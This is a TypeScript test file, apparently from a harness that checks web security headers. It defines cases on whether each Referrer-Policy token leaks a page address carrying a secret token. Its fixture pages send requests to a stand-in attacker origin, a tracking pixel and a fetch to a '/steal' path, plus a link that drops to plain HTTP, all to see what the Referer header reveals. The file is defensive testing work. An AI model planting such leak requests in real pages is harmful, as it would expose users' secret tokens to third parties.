import { FRAMEWORKS } from '../adapters/index.js'
import type { Case, Scene } from '../case.js'
import type { Addresses, Received } from '../site/site.js'

type Told = 'address' | 'origin' | 'nothing'

/** What each token tells: requests of the same origin, of another origin, and of another origin without TLS. */
const TOKENS = {
  'no-referrer': ['nothing', 'nothing', 'nothing'],
  'same-origin': ['address', 'nothing', 'nothing'],
  origin: ['origin', 'origin', 'origin'],
  'strict-origin': ['origin', 'origin', 'nothing'],
  'origin-when-cross-origin': ['address', 'origin', 'origin'],
  'strict-origin-when-cross-origin': ['address', 'origin', 'nothing'],
  'no-referrer-when-downgrade': ['address', 'address', 'nothing'],
} as const satisfies Record<string, readonly [Told, Told, Told]>

const SECRET = '/account?token=secret'

const site = (at: Addresses) => ({
  '/account': `<a href="${at.plain.sister}/plain">leave</a><script>
    Promise.allSettled([fetch('/same'), fetch('${at.sister}/steal', { mode: 'no-cors' })]).then(() => document.querySelector('a').click())
  </script>`,
  '/same': 'same',
})

const steps = ({ go, at }: Scene) => go(`${at.site}${SECRET}`)

const told = (requests: readonly Received[], path: string, at: Addresses): Told | undefined => {
  const request = requests.find((one) => one.path === path)
  if (request === undefined) return undefined
  const { referer } = request.headers
  if (referer === undefined) return 'nothing'
  return referer === `${at.site}${SECRET}` ? 'address' : 'origin'
}

/**
 * Where a visitor comes from, with a secret in the address. The other origin belongs to the same site: browsers by themselves
 * tell other sites less.
 */
export const REFERRER: readonly Case[] = [
  {
    name: 'that a visitor came from here, under no-referrer',
    header: 'Referrer-Policy',
    option: 'referrer',
    framework: 'express',
    main: true,
    policy: { referrer: 'no-referrer' },
    site: (at) => ({ '/account': `<img src="${at.attacker}/pixel">` }),
    steps,
    attacked: ({ received }) => received.attacker.some(({ path, headers }) => path === '/pixel' && headers.referer !== undefined),
  },
  ...Object.entries(TOKENS).map(
    ([token, [same, other, plain]], index): Case => ({
      name: `the address of a page, under ${token}`,
      header: 'Referrer-Policy',
      option: 'referrer',
      framework: FRAMEWORKS[index % FRAMEWORKS.length] as Case['framework'],
      tls: true,
      policy: { referrer: token as keyof typeof TOKENS },
      control: { referrer: 'unsafe-url' },
      site,
      steps,
      granted: ({ received, at }) =>
        told(received.site, '/same', at) === same &&
        told(received.attacker, '/steal', at) === other &&
        told(received.attacker, '/plain', at) === plain,
      works: ({ received }) => received.attacker.some(({ path, tls }) => path === '/plain' && !tls),
    }),
  ),
]
